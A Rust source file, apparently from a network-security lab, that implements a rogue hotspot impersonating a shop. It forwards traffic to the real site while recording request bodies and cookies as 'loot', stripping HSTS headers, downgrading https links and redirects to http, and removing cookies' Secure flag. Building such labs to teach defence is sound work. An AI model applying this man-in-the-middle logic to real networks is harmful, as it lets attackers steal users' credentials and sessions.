//! The hotspot's owner: answers in the shop's name, asks the shop itself over https, and takes out what would protect the user.
use std::cell::RefCell;
use std::net::SocketAddr;
use std::rc::Rc;

use super::site::SHOP;
use crate::lab::LabNet;
use crate::net::Net;
use crate::services::http::{self, Bytes, Client, HttpError, Request, Response, ServerOptions, StatusCode, Version};
use crate::services::tls;

/// What the user sent and nobody else should have read.
pub(super) type Loot = Rc<RefCell<Vec<String>>>;

/// Serves clear text at port 80, and TLS with a certificate nobody trusts at port 443.
pub(super) async fn serve(net: &LabNet, bad: tls::Server, upstream: &tls::Client, shop: SocketAddr, loot: &Loot) {
    for (port, tls) in [(80, None), (443, Some(bad))] {
        let at = SocketAddr::from(([10, 0, 0, 66], port));
        let listener = net.listen(at).await.expect("a new host has every port free");
        let (own, upstream, loot) = (net.clone(), upstream.clone(), Rc::clone(loot));
        let clear = tls.is_none();
        let handler = move |request: Request| {
            let (net, upstream, loot) = (own.clone(), upstream.clone(), Rc::clone(&loot));
            async move {
                read(&request, &loot);
                let answer = forward(&net, &upstream, shop, request).await;
                answer.map_or_else(|_| Response::new(StatusCode::BAD_GATEWAY), |it| stripped(it, clear))
            }
        };
        let options = ServerOptions { tls, ..ServerOptions::default() };
        let served = http::serve_with(net.clone(), listener, options, handler);
        net.spawn(async move { drop(served.await) });
    }
}

fn read(request: &Request, loot: &Loot) {
    let body = String::from_utf8_lossy(&request.body).into_owned();
    let cookie = request.header("cookie");
    loot.borrow_mut().extend([body, cookie].into_iter().filter(|it| !it.is_empty()));
}

/// The same request over https: the shop sees a client that does all right.
async fn forward(net: &LabNet, tls: &tls::Client, shop: SocketAddr, request: Request) -> Result<Response, HttpError> {
    let host = Some(request.header("host")).filter(|it| !it.is_empty()).unwrap_or_else(|| SHOP.to_owned());
    let mut connection = Client::new(Version::Http11, shop, &host).over(tls).open(net).await?;
    Ok(connection.ask(request).await?.response)
}

/// Without what protects: the field, https in links and redirects, the cookie's Secure.
fn stripped(mut response: Response, clear: bool) -> Response {
    response.headers.remove("strict-transport-security");
    response.headers.remove("content-length");
    if !clear {
        return response;
    }
    for name in ["location", "set-cookie"] {
        let value = response.header(name);
        if !value.is_empty() {
            response = response.with(name, &value.replace("https://", "http://").replace("; Secure", ""));
        }
    }
    let body = String::from_utf8_lossy(&response.body).replace("https://", "http://");
    response.body(Bytes::from(body))
}
